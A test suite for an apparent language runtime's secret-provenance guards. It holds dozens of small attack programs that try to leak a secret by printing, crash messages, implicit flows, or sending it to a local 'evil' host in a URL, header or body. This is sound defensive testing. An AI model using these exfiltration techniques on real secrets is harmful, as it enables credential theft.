// Provenance guards, attacked (spec/runtime.md, "Origins on values"): a secret
// read through a guarded capability (an environment variable, a file, an HTTP
// response body) and every way a program might try to get it out: printed,
// interpolated, transformed, measured, computed into numbers, put into records,
// lists, maps and pairs, encoded as JSON, passed through lambdas, queries and
// recursion, used as a map key, sent to another host in a URL, a header or a
// body, written to a file, passed to a process, returned from a server's
// handler, carried in a failure or a crash. Each must be stopped with nothing
// leaving; each flow to the granted sink must still work. Real `renyi run`
// processes, real servers on 127.0.0.1 (the sink, the attacker, the source).

import { test, after, before } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { freePort, getWhenUp, RENYI, renyiIn, startProgram } from "./support.js";

const SECRET = "hunter2-Zq9";
/** Forms of the secret a leak might take: as it is, shouted, reversed, spelled out. */
const FORMS = [
  SECRET,
  SECRET.toUpperCase(),
  [...SECRET].reverse().join(""),
  [...SECRET].join("-"),
  [...SECRET].join(","),
];

const work = mkdtempSync(join(tmpdir(), "renyi-guards-"));
after(() => rmSync(work, { recursive: true, force: true }));

interface Heard {
  url: string;
  headers: string;
  body: string;
}

/** A server on 127.0.0.1 that answers 200 `reply` and remembers every request. */
async function listen(reply: string): Promise<{ server: Server; port: number; heard: Heard[] }> {
  const heard: Heard[] = [];
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (d: Buffer) => (body += d.toString()));
    req.on("end", () => {
      heard.push({ url: req.url ?? "", headers: JSON.stringify(req.headers), body });
      res.end(reply);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, port: (server.address() as { port: number }).port, heard };
}

let sink: Awaited<ReturnType<typeof listen>>;
let evil: Awaited<ReturnType<typeof listen>>;
let source: Awaited<ReturnType<typeof listen>>;

before(async () => {
  sink = await listen("ok");
  evil = await listen("thanks");
  source = await listen(SECRET);
  mkdirSync(join(work, "secrets"));
  writeFileSync(join(work, "secrets", "key.txt"), SECRET);
});
after(() => {
  for (const s of [sink, evil, source]) s.server.close();
});

/** Where the secret comes from: the guarded capability and how it is read. */
const SOURCES = {
  environment: { need: 'environment("SECRET")', read: 'environment.get("SECRET").or_else("")' },
  file: {
    need: 'filesystem.read("secrets")',
    read: 'filesystem.read_text("secrets/key.txt") otherwise crash with "no file"',
  },
  http: {
    need: () => `network.http("127.0.0.1:${source.port}")`,
    read: () => `(http.get("http://127.0.0.1:${source.port}/secret") otherwise crash with "no source").body`,
  },
} as const;
type SourceName = keyof typeof SOURCES;

const PROGRAM = (sourceName: SourceName, body: string, socket: number, guarded = true) => {
  const s = SOURCES[sourceName];
  const need = typeof s.need === "function" ? s.need() : s.need;
  const read = typeof s.read === "function" ? s.read() : s.read;
  return `type Holder is record
  value: Text
end

function shout(x: Text) returns Text
  purpose: Shout.
  return x.upper() + "!"
end

function reversed(x: Text) returns Text
  purpose: Reverse by recursion.
  if x.length() <= 1
    return x
  end
  return reversed(x.slice(1, x.length())) + x.slice(0, 1)
end

public function main()
  purpose: Try one way out.
  needs console, network.http("127.0.0.1:${sink.port}"), network.http("127.0.0.1:${evil.port}"), filesystem.write("out"), process("touch"), network.socket(${socket}), ${need}${guarded ? ` only to network.http("127.0.0.1:${sink.port}")` : ""}
  let secret be ${read}
  let evil be "http://127.0.0.1:${evil.port}"
  let sink be "http://127.0.0.1:${sink.port}"
${body
  .trim()
  .split("\n")
  .map((l) => `  ${l}`)
  .join("\n")}
end
`;
};

/** Ways out that must be stopped: each program's only output would be the secret's. */
const ATTACKS: Record<string, string> = {
  printed: "console.print(secret)",
  interpolated: 'console.print("the key is {secret}")',
  upper: "console.print(secret.upper())",
  "split and joined": 'console.print(text.join(secret.split(""), "-"))',
  sliced: "console.print(secret.slice(0, 4))",
  replaced: 'console.print(secret.replace("h", "H"))',
  "characters one by one": "for each c in secret.characters()\n  console.print(c)\nend",
  measured: 'console.print("{secret.length()}")',
  "computed into a number": "let n be secret.length() * 7 + 1\nconsole.print(n.to_text())",
  "a loop's counter":
    'var last be 0\nfor each i in 1 to secret.length()\n  set last to i\nend\nconsole.print("{last}")',
  "in a record": 'let h be Holder(value: secret)\nconsole.print("{h}")',
  "through a record's field": "let h be Holder(value: secret)\nconsole.print(h.value)",
  with: 'let h be Holder(value: "x") with value: secret\nconsole.print(h.value)',
  "in a list": 'console.print("{[secret, "x"]}")',
  "a list's item": 'let xs be ["x", secret]\nconsole.print(xs.last().or_else("none"))',
  "in a map": 'let m be {"k": secret}\nconsole.print(m.get("k").or_else("none"))',
  "as a map key": 'let m be {secret: 1}\nconsole.print("{m.keys()}")',
  "as a key put in a map": 'let m be map.put({"a": 1}, secret, 2)\nconsole.print("{m.keys()}")',
  "in a pair": 'let p be (secret, 1)\nconsole.print("{p}")',
  "unpacked from a pair": "let (a, b) be (secret, 1)\nconsole.print(a)",
  "as JSON": "console.print(json.encode(secret))",
  "through to_json": 'console.print("{secret.to_json()}")',
  "through a lambda": 'let f be function (x: Text) returns Text\n  return x + "."\nend\nconsole.print(f(secret))',
  "through list.map":
    'let ys be list.map([secret], function (x: Text) returns Text\n  return x + "."\nend)\n' +
    'console.print(text.join(ys, ""))',
  "through a function": "console.print(shout(secret))",
  "through recursion": "console.print(reversed(secret))",
  "through a query": 'let ys be from c in secret.characters() select c.upper()\nconsole.print(text.join(ys, ""))',
  "through a query's where":
    'let ys be from c in secret.characters() where c is not "z" select c\nconsole.print("{ys}")',
  grouped: 'let gs be from c in secret.characters() group by c into g select g.key\nconsole.print("{gs}")',
  sorted: 'let ys be from c in secret.characters() sort by c select c\nconsole.print("{ys}")',
  matched:
    'match secret.split("-")\n  when [first, ...rest] then console.print(first)\n' +
    '  when _ then console.print("none")\nend',
  "appended in a var": 'var acc be ["x"]\nset acc to acc + [secret]\nconsole.print("{acc}")',
  "in concurrent tasks": 'run concurrently\n  let a be shout(secret)\n  let b be shout("b")\nend\nconsole.print(a)',
  "in a crash": "crash with secret",
  "in a crash's message": 'crash with "the key was {secret}"',
  "to another host in the URL": 'let r be http.get("{evil}/?k={secret}") otherwise crash with "blocked"',
  "to another host in a header": 'let r be http.get(evil, {"x-key": secret}) otherwise crash with "blocked"',
  "to another host in the body": 'let r be http.post(evil, secret) otherwise crash with "blocked"',
  "to another host as JSON": 'let r be http.post(evil, json.encode([secret])) otherwise crash with "blocked"',
  "written to a file": 'filesystem.write_text("out/leak.txt", secret) otherwise crash with "blocked"',
  "passed to a process": 'let r be process.run("touch", ["out/{secret}"]) otherwise crash with "blocked"',
  // Found by attacking the first version: each of these got out.
  "through a library function as a value": "let encode be json.encode\nconsole.print(encode(secret))",
  "through list.append as a value": 'let append be list.append\nconsole.print("{append([], secret)}")',
  "through a library function given to list.map": 'console.print(text.join(list.map([secret], text.upper), ""))',
  "appended in place by list.append": 'var acc be [""]\nset acc to acc.append(secret)\nconsole.print("{acc}")',
  "echoed by a failure before any call":
    'let r be http.get("x{secret}") otherwise\n  when HttpError.InvalidUrl(url) then crash with url\n' +
    '  when _ then crash with "other"\nend',
  "named by a permission failure":
    'filesystem.write_text("elsewhere/{secret}", "x") otherwise\n' +
    '  when FileError.PermissionDenied(path) then console.print(path)\n  when _ then console.print("other")\nend',
  "named in the scope of a refused call": "let v be environment.get(secret)",
  "in a division's message": "let n be secret.length() * 1000\nlet z be n / 0",
  "in an index's message": "let xs be [1]\nlet x be xs[secret.length() * 1000]",
  "quoted by a decoding failure":
    "let h be Holder.from_json(secret) otherwise\n" +
    '  when JsonError.Syntax(message, offset) then Holder(value: message)\n  when _ then Holder(value: "other")\n' +
    "end\nconsole.print(h.value)",
  // The attacks that decisions made (tests/implicit-flows.test.ts has thirty more): each got the whole secret out.
  "a decision about it printed": 'console.print("set: {not secret.is_empty()}")',
  "chosen one character at a time by a query's where":
    'let alphabet be "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-".characters()\n' +
    'var out be ""\nfor each ch in secret.characters()\n' +
    '  let found be from a in alphabet where a is ch select a\n  set out to out + text.join(found, "")\nend\n' +
    "console.print(out)",
  "chosen by list.filter with a function":
    'let alphabet be "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-".characters()\n' +
    'var out be ""\nfor each ch in secret.characters()\n' +
    "  set out to out + text.join(alphabet.filter(function (a: Text) returns Boolean\n    return a is ch\n" +
    '  end), "")\nend\nconsole.print(out)',
  "a loop's turns counted":
    'var count be 0\nfor each i in 1 to secret.length()\n  set count to count + 1\nend\nconsole.print("{count}")',
  "counted by a while loop to its length":
    'var n be 0\nwhile n < secret.length()\n  set n to n + 1\nend\nconsole.print("{n}")',
  "ordered by a query's sort":
    'let alphabet be "abcdefghijklmnopqrstuvwxyz0123456789"\nvar out be ""\nfor each ch in secret.characters()\n' +
    "  let s be alphabet.index_of(ch).or_else(0)\n" +
    "  let best be from c in alphabet.characters() sort by math.abs(alphabet.index_of(c).or_else(0) - s) select " +
    'c\n  set out to out + best.first().or_else("?")\nend\nconsole.print(out)',
};

/** Flows to the granted sink, and what the sink answered: each must work. */
const ALLOWED: Record<string, { body: string; heard?: (h: Heard) => boolean; stdout?: RegExp }> = {
  "sent to the sink in the body": {
    body: 'let r be http.post(sink, secret) otherwise crash with "refused"\nconsole.print("sent {r.status}")',
    heard: (h) => h.body === SECRET,
    stdout: /^sent 200\n$/,
  },
  "sent to the sink in a header": {
    body: 'let r be http.get(sink, {"x-key": secret.upper()}) otherwise crash with "refused"\nconsole.print("sent")',
    heard: (h) => h.headers.includes(SECRET.toUpperCase()),
  },
  "sent to the sink in the URL, from a record": {
    body:
      'let h be Holder(value: secret)\nlet r be http.get("{sink}/?k={h.value}") otherwise crash with "refused"\n' +
      'console.print("sent")',
    heard: (h) => h.url.includes(SECRET),
  },
  "library functions as values, on data with no origin": {
    body: 'let p be console.print\np("{list.map(["a"], text.upper)}")',
    stdout: /^\["A"\]\n$/,
  },
  "unrelated work printed": { body: 'let n be 6 * 7\nconsole.print("{n} {[1, 2].length()}")', stdout: /^42 2\n$/ },
};

/** Runs cases a few at a time. */
/**
 * The controls (the same attack without the guard gets out) for every other attack, and for all of them under
 * RENYI_FUZZ_CASES (`npm run fuzz`): an attack is checked as real whenever it changes, not at every test run.
 */
function controlSample<T>(items: readonly T[]): readonly T[] {
  return process.env["RENYI_FUZZ_CASES"] === undefined ? items.filter((_, i) => i % 2 === 0) : items;
}

async function inBatches<T>(items: readonly T[], size: number, run: (item: T) => Promise<void>): Promise<void> {
  for (let i = 0; i < items.length; i += size) await Promise.all(items.slice(i, i + size).map(run));
}

/**
 * Whether a text shows the secret, or four letters of it in a row, forwards or backwards, whatever stands between them.
 */
function leaked(text: string): boolean {
  const letters = text.toLowerCase().replace(/[^a-z0-9]/g, "");
  return FORMS.some((f) => text.includes(f)) || letters.includes("hunt") || letters.includes("tnuh");
}

function outFiles(): string[] {
  const out = join(work, "out");
  return existsSync(out) ? readdirSync(out) : [];
}

test("every way out of the program is stopped, with nothing leaving: from the environment, a file and a response body", async () => {
  mkdirSync(join(work, "out"), { recursive: true });
  const cases: [SourceName, string, string][] = [];
  for (const [name, body] of Object.entries(ATTACKS)) cases.push(["environment", name, body]);
  for (const name of [
    "printed",
    "interpolated",
    "measured",
    "in a record",
    "through a query",
    "to another host in the body",
    "to another host in a header",
    "written to a file",
    "passed to a process",
    "in a crash's message",
  ]) {
    cases.push(["file", name, ATTACKS[name]!], ["http", name, ATTACKS[name]!]);
  }
  const evilBefore = evil.heard.length;
  await inBatches(cases, 4, async ([sourceName, name, body]) => {
    const socket = await freePort();
    const ran = await startProgram(work, PROGRAM(sourceName, body, socket), { env: { SECRET } }).done;
    const what = `${sourceName}, ${name}`;
    assert.notEqual(ran.status, 0, `${what}: the program finished: ${ran.stdout}`);
    assert.equal(ran.stdout, "", `${what}: printed ${ran.stdout}`);
    assert.ok(!leaked(ran.stderr), `${what}: stderr shows the secret: ${ran.stderr}`);
    assert.match(ran.stderr, /E-RT-GUARD|blocked/, `${what}: ${ran.stderr}`);
    assert.doesNotMatch(ran.stderr, /E-RT-INTERNAL/, what);
  });
  assert.equal(evil.heard.length, evilBefore, `the other host was reached: ${JSON.stringify(evil.heard)}`);
  assert.deepEqual(outFiles(), [], "a file was written or a process ran");
  console.log(`guards: ${cases.length} ways out stopped`);
});

test("without the guard, the same programs do get the secret out: each attack above is a real one", async () => {
  const evilBefore = evil.heard.length;
  let leaks = 0;
  await inBatches(controlSample(Object.entries(ATTACKS)), 4, async ([name, body]) => {
    rmSync(join(work, "out"), { recursive: true, force: true });
    mkdirSync(join(work, "out"), { recursive: true });
    const heard = evil.heard.length;
    const socket = await freePort();
    const ran = await startProgram(work, PROGRAM("environment", body, socket, false), { env: { SECRET } }).done;
    // Each attack's only output is what it derived from the secret: printed at all, it got out.
    // (The secret has 11 characters: a crash that shows 11,000 shows its length.)
    const got =
      (ran.status === 0 && ran.stdout !== "") ||
      leaked(ran.stderr) ||
      /\b11000\b/.test(ran.stderr) ||
      evil.heard.slice(heard).some((h) => leaked(h.url + h.headers + h.body)) ||
      outFiles().length > 0;
    assert.ok(got, `${name}: nothing left without the guard either: ${ran.stdout} ${ran.stderr}`);
    leaks++;
  });
  assert.ok(evil.heard.length > evilBefore);
  rmSync(join(work, "out"), { recursive: true, force: true });
  console.log(`guards: ${leaks} attacks leak without the guard`);
});

test("the granted sink still gets the secret, and what the sink answered may be printed", async () => {
  let checked = 0;
  await inBatches(Object.entries(ALLOWED), 4, async ([name, c]) => {
    const before = sink.heard.length;
    const socket = await freePort();
    const ran = await startProgram(work, PROGRAM("environment", c.body, socket), { env: { SECRET } }).done;
    assert.equal(ran.status, 0, `${name}: ${ran.stderr}`);
    if (c.stdout !== undefined) assert.match(ran.stdout, c.stdout, name);
    if (c.heard !== undefined)
      assert.ok(
        sink.heard.slice(before).some(c.heard),
        `${name}: the sink did not get it: ${JSON.stringify(sink.heard.slice(before))}`,
      );
    checked++;
  });
  console.log(`guards: ${checked} allowed flows`);
});

test("a handler's response that carries guarded data is answered 500 with the guard's message, never the data", async () => {
  const socket = await freePort();
  const body = `server.serve(${socket}, function (request: Request) returns Response
  return server.respond(200, "key {secret}")
end, Some(1)) otherwise crash with "no server"`;
  const started = startProgram(work, PROGRAM("environment", body, socket), { env: { SECRET } });
  const answer = await getWhenUp(socket);
  const ran = await started.done;
  assert.equal(answer.status, 500);
  assert.ok(!leaked(answer.body), answer.body);
  assert.ok(!leaked(ran.stderr + ran.stdout), ran.stderr);
  assert.match(ran.stderr, /E-RT-GUARD\]: the response was refused: it carries data from environment\("SECRET"\)/);
});

test("a failure main ends with is checked against the console like a print", async () => {
  const file = `public function main() or fails with Text
  purpose: Fail with the secret.
  needs environment("SECRET") only to network.http("127.0.0.1")
  fail with environment.get("SECRET").or_else("")
end
`;
  const ran = await startProgram(work, file, { env: { SECRET } }).done;
  assert.equal(ran.status, 2, ran.stderr);
  assert.ok(!leaked(ran.stderr + ran.stdout), ran.stderr);
  assert.match(ran.stderr, /error\[E-RT-GUARD\]: the failure it ended with was refused/);
});

test("a fallible call refused by a guard fails, and otherwise handles the failure like any other", async () => {
  const socket = await freePort();
  const before = evil.heard.length;
  const handled = (print: string) => `let status be (http.post(evil, secret) otherwise
  when _ then Response(status: -1, headers: {}, body: "", bytes: "".to_bytes())
end).status
${print}`;
  // The handler ran, and the program goes on past it; the value it gave is a decision on what the call carried.
  const ran = await startProgram(work, PROGRAM("environment", handled('console.print("handled")'), socket), {
    env: { SECRET },
  }).done;
  assert.equal(ran.status, 0, ran.stderr);
  assert.equal(ran.stdout, "handled\n");
  const shown = await startProgram(
    work,
    PROGRAM("environment", handled('console.print("handled {status}")'), await freePort()),
    { env: { SECRET } },
  ).done;
  assert.equal(shown.stdout, "");
  assert.match(shown.stderr, /E-RT-GUARD/);
  assert.equal(evil.heard.length, before);
});

test("a replay enforces the same guards: a program edited to print what it sent is refused offline", async () => {
  const dir = join(work, "replayed");
  mkdirSync(dir, { recursive: true });
  const head = `public function main()
  purpose: Send the key where it may go.
  needs console, network.http("127.0.0.1:${sink.port}"), environment("SECRET") only to network.http("127.0.0.1:${sink.port}")
  let secret be environment.get("SECRET").or_else("")
`;
  writeFileSync(
    join(dir, "send.ry"),
    `${head}  let r be http.post("http://127.0.0.1:${sink.port}/", secret) otherwise crash with "refused"\n` +
      `  console.print("sent {r.status}")\nend\n`,
  );
  const recorded = await runIn(dir, ["record", "--to", "send.recording.json", "send.ry"], { SECRET });
  assert.equal(recorded.status, 0, recorded.stderr);
  const recording = JSON.parse(readFileSync(join(dir, "send.recording.json"), "utf8")) as { grant: string[] };
  assert.ok(
    recording.grant.some((item) => item === `environment("SECRET") only to network.http("127.0.0.1:${sink.port}")`),
    JSON.stringify(recording.grant),
  );
  // The same program replays; the edited one prints the key, and is stopped before anything is printed.
  const again = await runIn(dir, ["run", "--replay", "send.recording.json", "send.ry"], {});
  assert.equal(again.status, 0, again.stderr);
  writeFileSync(join(dir, "send.ry"), `${head}  console.print(secret)\nend\n`);
  const edited = await runIn(dir, ["run", "--replay", "send.recording.json", "send.ry"], {});
  assert.equal(edited.status, 2, edited.stderr);
  assert.equal(edited.stdout, "");
  assert.match(
    edited.stderr,
    /error\[E-RT-GUARD\]: console\.print was refused: it carries data from environment\("SECRET"\)/,
  );
  assert.ok(!leaked(edited.stderr));
});

test("a test's own guard holds in renyi test", async () => {
  const dir = join(work, "tested");
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, "keys_test.ry"),
    `test "the key stays in" needs console, environment("SECRET") only to network.http("127.0.0.1")
  console.print(environment.get("SECRET").or_else("none"))
end

test "a decision about the key is refused too" needs console, environment("SECRET") only to network.http("127.0.0.1")
  console.print("set: {environment.get("SECRET").is_some()}")
end

test "work of its own is printed" needs console, environment("SECRET") only to network.http("127.0.0.1")
  console.print("six times seven is {6 * 7}")
end
`,
  );
  const ran = await runIn(dir, ["test", "keys_test.ry"], { SECRET });
  assert.equal(ran.status, 1, ran.stdout + ran.stderr);
  assert.match(ran.stdout, /crashed the key stays in[\s\S]*E-RT-GUARD/);
  assert.match(ran.stdout, /crashed a decision about the key is refused too[\s\S]*E-RT-GUARD/);
  assert.match(ran.stdout, /passed +work of its own is printed/);
  assert.ok(!leaked(ran.stdout + ran.stderr), ran.stdout);
});

/** `renyi ARGS` in `dir`, with the environment given added. */
function runIn(
  dir: string,
  args: readonly string[],
  env: Record<string, string>,
): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return renyiIn(dir, args, env, join(work, "cache"));
}

test("a failure wrapped by otherwise fail keeps the origins of what it wraps", async () => {
  const file = `type AppError is variant
  Parse(error: ParseError)
end

public function main() or fails with AppError
  purpose: Fail with a wrapped failure made of the secret.
  needs environment("SECRET") only to network.http("127.0.0.1")
  let secret be environment.get("SECRET").or_else("")
  let n be secret.to_int() otherwise fail
end
`;
  const ran = await startProgram(work, file, { env: { SECRET } }).done;
  assert.equal(ran.status, 2, ran.stderr);
  assert.ok(!leaked(ran.stderr + ran.stdout), ran.stderr);
  assert.match(ran.stderr, /error\[E-RT-GUARD\]: the failure it ended with was refused/);
});

test("the execution record names no scope made of guarded data", async () => {
  const socket = await freePort();
  const ran = await startProgram(
    work,
    PROGRAM("environment", 'let r be http.get("{sink}/{secret}") otherwise crash with "refused"', socket),
    { env: { SECRET }, before: ["--json"] },
  ).done;
  assert.equal(ran.status, 0, ran.stderr);
  const record = JSON.parse(ran.stdout.trim().split("\n").at(-1)!) as {
    hostCalls: { operation: string; target?: string }[];
  };
  const get = record.hostCalls.find((c) => c.operation === "std.http.get")!;
  assert.equal(get.target, undefined);
  assert.ok(!leaked(ran.stdout), ran.stdout);
});

test("paths are compared where they lead: an absolute path or a link into a guarded folder is guarded, a link out of a sink is not a sink", async () => {
  const dir = join(work, "linked");
  mkdirSync(join(dir, "secrets"), { recursive: true });
  mkdirSync(join(dir, "out"), { recursive: true });
  mkdirSync(join(dir, "elsewhere"), { recursive: true });
  writeFileSync(join(dir, "secrets", "key.txt"), SECRET);
  symlinkSync(join(dir, "secrets", "key.txt"), join(dir, "keylink.txt"));
  symlinkSync(join(dir, "elsewhere"), join(dir, "out", "esc"));
  const program = (body: string) => `public function main()
  purpose: Reach the secret by another name.
  needs console, filesystem.read, filesystem.write, filesystem.read("secrets") only to filesystem.write("out")
${body
  .split("\n")
  .map((l) => `  ${l}`)
  .join("\n")}
end
`;
  const cases: [string, string, boolean][] = [
    [
      "an absolute path",
      `let s be filesystem.read_text("${join(dir, "secrets", "key.txt")}") otherwise crash with "no file"\n` +
        `console.print(s)`,
      false,
    ],
    [
      "a link to the file",
      'let s be filesystem.read_text("keylink.txt") otherwise crash with "no file"\nconsole.print(s)',
      false,
    ],
    [
      "a link out of the sink",
      'let s be filesystem.read_text("secrets/key.txt") otherwise crash with "no file"\n' +
        'filesystem.write_text("out/esc/leak.txt", s) otherwise crash with "blocked"',
      false,
    ],
    [
      "the sink itself",
      'let s be filesystem.read_text("secrets/key.txt") otherwise crash with "no file"\n' +
        'filesystem.write_text("out/kept.txt", s) otherwise crash with "refused"\nconsole.print("kept")',
      true,
    ],
  ];
  for (const [name, body, allowed] of cases) {
    writeFileSync(join(dir, "p.ry"), program(body));
    const ran = await runIn(dir, ["run", "p.ry"], {});
    if (allowed) {
      assert.equal(ran.status, 0, `${name}: ${ran.stderr}`);
      assert.equal(readFileSync(join(dir, "out", "kept.txt"), "utf8"), SECRET);
    } else {
      assert.notEqual(ran.status, 0, `${name}: ${ran.stdout}`);
      assert.equal(ran.stdout, "", name);
      assert.match(ran.stderr, /E-RT-GUARD|blocked/, `${name}: ${ran.stderr}`);
      assert.ok(!leaked(ran.stderr), name);
    }
  }
  assert.deepEqual(readdirSync(join(dir, "elsewhere")), []);
});

test("a bundle built with guards passes the validator and is held to them; a run with guards refuses code compiled without origins", async () => {
  const dir = join(work, "bundled");
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, "leak.ry"),
    `public function main()
  purpose: Print a secret.
  needs console, environment("SECRET") only to network.http("127.0.0.1")
  console.print(environment.get("SECRET").or_else("none"))
end
`,
  );
  const build = await new Promise<number | null>((resolve) =>
    spawn(process.execPath, [join(RENYI, "..", "renyic.js"), "build", "leak.ry", "--out", "out"], {
      cwd: dir,
      stdio: "ignore",
    }).on("close", resolve),
  );
  assert.equal(build, 0);
  const ran = await runIn(dir, ["run", "out/leak.mjs"], { SECRET });
  assert.equal(ran.status, 2, ran.stderr);
  assert.match(ran.stderr, /E-RT-GUARD/);
  assert.ok(!leaked(ran.stdout + ran.stderr));
  // The runtime itself: guards declared, but no origin operators compiled in.
  const { runMain } = await import("../rtlib/run-main.js");
  const refused = await runMain(
    {
      main: () => undefined,
      mainParameters: [],
      mainGrant: [{ path: ["environment"], scope: "SECRET", guard: { sinks: [{ path: ["console"] }] } }],
    },
    { argv: [] },
  );
  assert.equal(refused.outcome, "refused");
  assert.match((refused as { message: string }).message, /compiled without the origins they need/);
});
